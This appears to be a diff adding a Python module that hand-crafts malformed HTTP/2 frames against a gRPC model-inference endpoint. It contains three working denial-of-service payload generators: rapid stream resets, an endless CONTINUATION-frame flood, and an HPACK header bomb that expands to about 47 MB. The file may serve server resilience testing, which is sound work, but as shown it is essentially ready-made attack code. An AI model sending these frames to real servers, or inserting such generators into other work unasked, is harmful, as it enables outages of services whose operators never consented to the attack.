@@ -1,0 +1,49 @@
+"""Frames of HTTP/2 as an attacker writes them, without a library that would keep the rules."""
+
+import struct
+
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
+END_HEADERS = 4
+CANCEL = struct.pack(">I", 8)
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    """A header that enters no table."""
+    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
+CALL = b"\x83\x86" + b"".join(
+    literal(name, value)
+    for name, value in (
+        (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
+        (b":authority", b"a"),
+        (b"content-type", b"application/grpc"),
+        (b"te", b"trailers"),
+    )
+)
+
+
+def rapid_resets(count=2_000):
+    """Calls that are cancelled at once."""
+    return [
+        frame(HEADERS, END_HEADERS, number, CALL) + frame(RST_STREAM, 0, number, CANCEL)
+        for number in range(1, 2 * count, 2)
+    ]
+
+
+def endless_headers(count=2_000):
+    """One call whose headers never end."""
+    more = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 20)
+    return [frame(HEADERS, 0, 1, CALL), *[more] * count]
+
+
+def header_bomb():
+    """One header of 3,900 bytes in the table, and 12,000 references to it of one byte each: 47 MB."""
+    length = bytes([0x7F, (3_900 - 127) % 128 | 128, (3_900 - 127) // 128])
+    entry = b"\x40\x01x" + length + b"v" * 3_900
+    return [frame(HEADERS, 0, 1, CALL + entry) + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 12_000)]
